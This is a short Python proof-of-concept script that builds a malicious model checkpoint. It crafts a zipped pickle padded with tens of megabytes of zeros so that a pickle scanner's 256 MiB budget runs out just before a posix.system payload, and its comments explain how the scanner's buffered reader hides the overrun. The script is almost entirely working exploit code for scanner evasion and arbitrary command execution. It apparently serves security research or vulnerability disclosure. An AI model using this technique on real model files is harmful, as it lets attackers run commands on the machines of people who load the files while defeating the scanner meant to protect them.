# One DEFLATE data.pkl: PROTO 2, BINBYTES8 of F zeros, POP, payload GLOBAL+REDUCE, POP, {} STOP.
# The scan inflates 16*csize+1024 bytes into memory, then walks on with the rest of the 256 MiB
# budget. F is chosen so the budget ends ~50 bytes before the payload; the walker wraps the
# inflater in a 32 KiB bufio.Reader, so the check "does the stream go on past the budget?"
# (fr.Read after the walk) finds it already drained: no budget problem, payload never named.
import sys, zlib, zipfile, struct, io
out = sys.argv[1]; h = len(sys.argv) > 2 and sys.argv[2] == 'print'
mod, name, arg = (b'builtins', b'print', b'PAYLOAD REACHED') if h else (b'posix', b'system', b'echo PWNED > /tmp/pwned_marker')
pay = b'c' + mod + b'\n' + name + b'\n' + b'X' + struct.pack('<I', len(arg)) + arg + b'\x85R0}.'
T = 256 << 20
def build(F):
    pk = b'\x80\x02\x8e' + struct.pack('<Q', F) + b'\0' * F + b'0' + pay
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        z.writestr(zipfile.ZipInfo('archive/data.pkl'), pk, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
        z.writestr(zipfile.ZipInfo('archive/version'), b'3\n'); z.writestr(zipfile.ZipInfo('archive/byteorder'), b'little')  # fixed dates: reproducible
    b = bio.getvalue()
    csize = zipfile.ZipFile(io.BytesIO(b)).getinfo('archive/data.pkl').compress_size
    return b, csize
slack = int(sys.argv[3]) if len(sys.argv) > 3 else 50
F = T - 9
for _ in range(4):
    b, csize = build(F)
    mem = 16 * csize + 1024
    R = min(T, max(T, 16 * len(b))) - mem
    F = R - 9 + slack            # BINBYTES8 data ends `slack` bytes past the budget end (from = 2)
b, csize = build(F)
open(out, 'wb').write(b)
print('file', len(b), 'csize', csize, 'F', F)
